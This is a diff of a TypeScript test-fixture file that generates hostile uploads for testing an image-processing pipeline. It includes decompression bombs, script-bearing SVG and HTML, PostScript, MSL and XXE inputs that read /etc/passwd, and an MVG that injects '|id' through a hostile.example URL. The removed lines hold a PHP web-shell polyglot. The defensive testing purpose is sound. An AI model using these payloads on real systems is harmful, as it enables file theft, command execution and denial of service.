@@ -1,42 +1,21 @@
 import { deflateSync } from "node:zlib";
 import { largestFile } from "../../../core/pictures/sizes.ts";
-import {
-  canary,
-  drawn,
-  flipped,
-  inflating,
-  jpeg,
-  jpegSaying,
-  png,
-  pngChunk,
-  pngOf,
-  riff,
-  webp,
-  withChunks,
-  withSegment,
-  zip,
-  zlibBomb,
-} from "./files.ts";
-
-/** What must become of a file. `either`: whether a damaged one can still be read is the decoder's to say. */
-export type Fate = "refused" | "clean" | "either";
-
-export interface Hostile {
-  readonly what: string;
-  readonly fate: Fate;
-  readonly bytes: Buffer;
-}
+import { animated, cutShort, damaged, polyglots } from "./damaged-files.ts";
+import { type Hostile, either, refused, type Whole } from "./fates.ts";
+import { inflating, jpeg, jpegSaying, png, pngChunk, pngOf, riff, webp, withChunks, zip, zlibBomb } from "./files.ts";
 
 /** Over two hundred files that mean no good, made anew and the same in each run. */
 export async function hostileFiles(): Promise<Hostile[]> {
   const whole = { jpeg: await jpeg(), png: await png(), webp: await webp() };
-  return [...bombs(whole), ...otherTypes(), ...polyglots(whole), ...cutShort(whole), ...damaged(whole), ...(await animated())];
+  return [
+    ...bombs(whole),
+    ...otherTypes(),
+    ...polyglots(whole),
+    ...cutShort(whole),
+    ...damaged(whole),
+    ...(await animated()),
+  ];
 }
-
-type Whole = Readonly<Record<"jpeg" | "png" | "webp", Buffer>>;
-
-const file = (fate: Fate) => (what: string, bytes: Buffer | string) => ({ what, fate, bytes: Buffer.from(bytes) });
-const [refused, clean, either] = [file("refused"), file("clean"), file("either")];
 
 /** Few bytes that would be many. */
 function bombs({ jpeg, png, webp }: Whole): Hostile[] {
@@ -48,11 +27,16 @@ function bombs({ jpeg, png, webp }: Whole): Hostile[] {
     ...sides.map((side) => refused(`a PNG of ${side} by ${side} in 16 bits`, pngOf(side, side, [rows], 16, 6))),
     refused("a PNG of one pixel's height and two thousand million width", pngOf(2 ** 31 - 1, 1, [rows])),
     refused("a PNG of no width", pngOf(0, 100, [rows])),
-    ...[20_000, 50_000, 65_500].map((side) => refused(`a JPEG said to be ${side} by ${side}`, jpegSaying(jpeg, side, side))),
+    ...[20_000, 50_000, 65_500].map((side) =>
+      refused(`a JPEG said to be ${side} by ${side}`, jpegSaying(jpeg, side, side)),
+    ),
     refused("a JPEG said to have no height", jpegSaying(jpeg, 100, 0)),
     refused("a WebP said to be 16384 by 16384", losslessHeader(16_384, 16_384)),
     refused("a WebP said to be a canvas of 16 million by 16 million", canvas(webp)),
-    refused("a PNG of a few rows whose data inflates to 512 MB and is cut", pngOf(60_000, 9_000, [pngChunk("IDAT", zlibBomb(512))], 8, 2)),
+    refused(
+      "a PNG of a few rows whose data inflates to 512 MB and is cut",
+      pngOf(60_000, 9_000, [pngChunk("IDAT", zlibBomb(512))], 8, 2),
+    ),
     either("a PNG with 64 MB behind its last row", pngOf(8, 8, [pngChunk("IDAT", zlibBomb(64))])),
     ...[16, 256].flatMap((mb) => [
       either(`a PNG whose colour profile inflates to ${mb} MB`, withChunks(png, [inflating.iCCP(mb)])),
@@ -60,7 +44,10 @@ function bombs({ jpeg, png, webp }: Whole): Hostile[] {
       either(`a PNG whose XMP inflates to ${mb} MB`, withChunks(png, [inflating.iTXt(mb)])),
     ]),
     either("a PNG with five thousand texts", withChunks(png, many)),
-    refused("a file that is one byte over the limit", Buffer.concat([jpeg, Buffer.alloc(largestFile - jpeg.length + 1)])),
+    refused(
+      "a file that is one byte over the limit",
+      Buffer.concat([jpeg, Buffer.alloc(largestFile - jpeg.length + 1)]),
+    ),
     refused("a file that is far over the limit", Buffer.alloc(4 * largestFile, 0xff)),
     refused("nothing", ""),
     refused("one byte", Buffer.from([0xff])),
@@ -76,13 +63,17 @@ function losslessHeader(width: number, height: number): Buffer {
 }
 
 function canvas(webp: Buffer): Buffer {
-  return riff([["VP8X", Buffer.from([0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff])], ["VP8 ", webp.subarray(20)]]);
+  return riff([
+    ["VP8X", Buffer.from([0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff])],
+    ["VP8 ", webp.subarray(20)],
+  ]);
 }
 
 /** What sharp would take, or a browser show, if it were let. */
 function otherTypes(): Hostile[] {
   const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>`;
-  const box = (brand: string) => Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from(`ftyp${brand}\0\0\0\0mif1${brand}`)]);
+  const box = (brand: string) =>
+    Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from(`ftyp${brand}\0\0\0\0mif1${brand}`)]);
   const types: Readonly<Record<string, Buffer | string>> = {
     "an SVG with a script": svg,
     "an SVG behind an XML declaration": `<?xml version="1.0"?>${svg}`,
@@ -98,14 +89,19 @@ function otherTypes(): Hostile[] {
     "a HEIC": box("heic"),
     "an AVIF": box("avif"),
     "a JPEG XL": Buffer.concat([Buffer.from([0xff, 0x0a]), Buffer.alloc(99)]),
-    "a JPEG 2000": Buffer.concat([Buffer.from([0, 0, 0, 12]), Buffer.from("jP  \r\n\x87\n", "latin1"), Buffer.alloc(99)]),
+    "a JPEG 2000": Buffer.concat([
+      Buffer.from([0, 0, 0, 12]),
+      Buffer.from("jP  \r\n\x87\n", "latin1"),
+      Buffer.alloc(99),
+    ]),
     "an MP4": box("isom"),
     "a PDF": "%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF",
     "a PostScript": "%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file",
-    "an MVG": "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://hostile.example/\"|id\")'\npop graphic-context",
+    "an MVG":
+      "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://hostile.example/\"|id\")'\npop graphic-context",
     "an MSL": `<?xml version="1.0"?><image><read filename="/etc/passwd"/></image>`,
-    "XML": `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`,
-    "HTML": "<!doctype html><script>alert(1)</script>",
+    XML: `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`,
+    HTML: "<!doctype html><script>alert(1)</script>",
     "a ZIP": zip("content"),
     "a gzip": Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0]), Buffer.alloc(99)]),
     "a program": Buffer.concat([Buffer.from("\x7fELF"), Buffer.alloc(99)]),
@@ -120,78 +116,13 @@ function otherTypes(): Hostile[] {
     "a MATLAB file": `MATLAB 5.0 MAT-file${" ".repeat(109)}`,
     "libvips' own file": Buffer.concat([Buffer.from([0x08, 0xf2, 0xa6, 0xb6]), Buffer.alloc(99)]),
     "a comma-separated table": "1,2,3\n4,5,6\n",
-    "zeroes": Buffer.alloc(5_000),
+    zeroes: Buffer.alloc(5_000),
     "the beginning of a JPEG before an SVG": Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(svg)]),
-    "the beginning of a PNG before HTML": Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), Buffer.from("<html>")]),
+    "the beginning of a PNG before HTML": Buffer.concat([
+      Buffer.from("\x89PNG\r\n\x1a\n", "latin1"),
+      Buffer.from("<html>"),
+    ]),
     "the beginning of a WebP before a PDF": riff([["VP8 ", Buffer.from("%PDF-1.7")]]),
   };
   return Object.entries(types).map(([what, bytes]) => refused(what, bytes));
-}
-
-/** A genuine picture that is something else as well, or holds what nobody sees. */
-function polyglots({ jpeg, png, webp }: Whole): Hostile[] {
-  const html = `<html><script>/*${canary}*/alert(1)</script></html>`;
-  const java = Buffer.from(`PK\x03\x04 ${canary} META-INF/MANIFEST.MF`);
-  const xmp = (text: string) => Buffer.from(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${text}</x:xmpmeta>`);
-  const exif = Buffer.concat([Buffer.from("Exif\0\0II*\0\x08\0\0\0\0\0\0\0\0\0", "latin1"), Buffer.from(canary)]);
-  const profile = Buffer.concat([Buffer.from("ICC_PROFILE\0\x01\x01", "latin1"), Buffer.from(canary)]);
-  const text = Buffer.from(`Comment\0${canary}${html}`);
-  const appended = { ZIP: zip(canary), HTML: html, "Java archive": java, "PHP script": `<?php /*${canary}*/ system($_GET[0]);`, PDF: `%PDF-1.7 ${canary}` };
-  return [
-    ...Object.entries({ jpeg, png, webp }).flatMap(([kind, whole]) =>
-      Object.entries(appended).map(([what, more]) => clean(`a ${kind} with a ${what} behind it`, Buffer.concat([whole, Buffer.from(more)]))),
-    ),
-    clean("a JPEG with HTML in a comment", withSegment(jpeg, 0xfe, Buffer.from(html))),
-    clean("a JPEG with a script in a comment of full length", withSegment(jpeg, 0xfe, Buffer.from(canary.repeat(3_000)))),
-    clean("a JPEG with XMP", withSegment(jpeg, 0xe1, xmp(canary))),
-    either("a JPEG with EXIF that ends early", withSegment(jpeg, 0xe1, exif)),
-    either("a JPEG with a colour profile that is none", withSegment(jpeg, 0xe2, profile)),
-    clean("a JPEG with Photoshop's block", withSegment(jpeg, 0xed, Buffer.from(`Photoshop 3.0\0${canary}`))),
-    clean("a PNG with HTML in a text", withChunks(png, [pngChunk("tEXt", text)])),
-    clean("a PNG with a chunk of its own", withChunks(png, [pngChunk("teSt", Buffer.from(html))])),
-    clean("a PNG with EXIF", withChunks(png, [pngChunk("eXIf", exif.subarray(6))])),
-    either("a PNG with a critical chunk that nobody knows", withChunks(png, [pngChunk("EVIL", Buffer.from(html))])),
-    clean("a WebP with a chunk of its own", riff([["VP8 ", webp.subarray(20)], ["EVIL", Buffer.from(html)]])),
-    clean("a WebP with XMP", riff([["VP8X", Buffer.from([4, 0, 0, 0, 159, 0, 0, 99, 0, 0])], ["VP8 ", webp.subarray(20)], ["XMP ", xmp(canary)]])),
-  ];
-}
-
-function cutShort(whole: Whole): Hostile[] {
-  const shares = [0.02, 0.1, 0.25, 0.5, 0.75, 0.9, 0.97];
-  return Object.entries(whole).flatMap(([kind, bytes]) =>
-    shares.map((share) => refused(`a ${kind} of which ${share * 100} % arrived`, bytes.subarray(0, Math.floor(bytes.length * share)))),
-  );
-}
-
-function damaged(whole: Whole): Hostile[] {
-  return Object.entries(whole).flatMap(([kind, bytes], at) =>
-    Array.from({ length: 27 }, (_, seed) =>
-      either(`a ${kind} with bits turned (${seed})`, flipped(bytes, 1 + seed + at * 100, 1 + (seed % 5) * 20)),
-    ),
-  );
-}
-
-/** Of what moves the first picture is taken; the others stay out. */
-async function animated(): Promise<Hostile[]> {
-  const frames = await Promise.all([1, 2, 3].map((at) => drawn(40 * at, 40).resize(60, 60, { fit: "fill" }).png().toBuffer()));
-  const { default: sharp } = await import("sharp");
-  const moving = await sharp(frames, { join: { animated: true } }).webp({ loop: 0 }).toBuffer();
-  const whole = await png();
-  const control = (frames: number) => pngChunk("acTL", Buffer.from(new Uint32Array([frames, 0]).buffer).swap32());
-  const frame = (number: number) => {
-    const data = Buffer.alloc(26);
-    for (const [at, value] of [number, 160, 100].entries()) data.writeUInt32BE(value, at * 4);
-    return pngChunk("fcTL", data);
-  };
-  const frameData = (number: number) => pngChunk("fdAT", Buffer.concat([Buffer.from([0, 0, 0, number]), zlibBomb(1)]));
-  const apng = (many: number) => {
-    const more = Array.from({ length: many }, (_, at) => [frame(2 * at + 1), frameData((2 * at + 2) % 256)]).flat();
-    const end = whole.length - 12;
-    return Buffer.concat([withChunks(whole.subarray(0, end), [control(many + 1), frame(0)]), ...more, whole.subarray(end)]);
-  };
-  return [
-    clean("a WebP that moves", moving),
-    clean("an APNG of three pictures", apng(2)),
-    clean("an APNG of three thousand pictures", apng(3_000)),
-  ];
 }
